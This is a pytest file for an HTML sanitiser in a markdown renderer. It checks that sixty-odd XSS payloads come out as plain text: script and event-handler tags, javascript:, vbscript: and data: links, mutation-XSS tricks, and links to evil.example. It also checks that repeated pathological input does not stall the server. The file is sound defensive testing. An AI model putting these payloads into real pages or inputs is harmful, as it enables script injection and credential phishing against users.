"""HTML from people's text: attacks come out as text, and no text keeps the server busy."""

import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest

from proposals.editing import rendering
from proposals.editing.rendering import Unshowable, html, shown
from proposals.editing.rendering.cleaning import ATTRIBUTES, TAGS

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div class=nhsuk-header id=maincontent>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><a href='javascript:1'>",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](vbscript:1)",
    "[x](javascript:1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    '[x](https://x.org" onmouseover="alert(1))',
    "[x](https://x.org 'title\" onmouseover=alert(1) \"')",
    "![x](javascript:alert(1))",
    '![x](https://x.org/a.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://x.org/"onclick=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[a](<javascript:alert(1)>'x'){: onclick=alert(1) }",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
]


class Inspector(HTMLParser):
    """Fails at every tag, attribute or address that is not on the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in [*ATTRIBUTES.get(tag, []), *(["rel"] if tag == "a" else [])]
            if name == "href":
                assert (value or "").lower().startswith(("http://", "https://", "mailto:")), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_as_text(attack: str) -> None:
    """[ED71] Raw HTML, handlers and other schemes never reach the page."""
    Inspector().feed(html(attack))
    Inspector().feed(html(f"words {attack} words\n\n-   {attack}\n\n> {attack}"))


def test_links_open_without_telling_where_from() -> None:
    """[ED71]"""
    assert html("[x](https://x.org/a)") == (
        '<p><a href="https://x.org/a" rel="noopener noreferrer nofollow">x</a></p>'
    )


def test_headings_start_below_the_sections() -> None:
    """[ED72] Headings of a text never stand above the headings of the page."""
    assert html("# A\n\n## B\n\n### C\n\n#### D\n\n###### E") == (
        "<h3>A</h3>\n<h3>B</h3>\n<h3>C</h3>\n<h4>D</h4>\n<h6>E</h6>"
    )


def test_tables_and_lists_are_whole() -> None:
    page = html("| a | b |\n|---|--:|\n| 1 | 2 |\n\n3.  c\n4.  d")
    assert '<td align="right">2</td>' in page
    assert '<ol start="3">' in page


@pytest.mark.parametrize(
    "piece",
    ["[", "![](", "[a](", "[a](<", "![", "<a ", "<", "`", "**a ", "***a***", "*", "_", "\\*", "\\[",
     "&", "&lt;", "> ",
     "|a", "# a\n", "---\n", "- a\n\n", "a\n\n", "|x|\n|-|\n", "[a](http://x.org) ", "~", "`` ` "],
)  # fmt: skip
@pytest.mark.parametrize("times", [900, 10_000, 60_000])
def test_no_text_takes_long(piece: str, times: int) -> None:
    """[ED73] A text is shown within a second or so, or refused with a sentence."""
    started = time.process_time()
    with suppress(Unshowable):
        html(piece * times)
    assert time.process_time() - started < 2.5


@pytest.mark.parametrize("source", ["> " * 900, "\n".join("    " * depth + "- a" for depth in range(400))])
def test_deep_nesting_is_refused(source: str) -> None:
    """[ED73]"""
    started = time.process_time()
    page = shown(source)
    assert time.process_time() - started < 2.5
    assert page.startswith(("<p>This text", "<blockquote>", "<ul>"))


def test_a_text_too_long_to_format_is_shown_as_typed() -> None:
    """[ED73]"""
    page = shown("<b>a</b> " * 50_000)
    assert "too long" in page
    assert "&lt;b&gt;a&lt;/b&gt;" in page
    assert "<b>" not in page


def test_only_short_texts_are_remembered() -> None:
    """[ED102] Pages show the same texts again and again; very long ones would fill the memory."""
    rendering._remembered.cache_clear()
    assert html("Short.") is html("Short.")
    assert html("Long. " * 10_000) == html("Long. " * 10_000)
    kept = rendering._remembered.cache_info()
    assert (kept.currsize, kept.hits) == (1, 1)
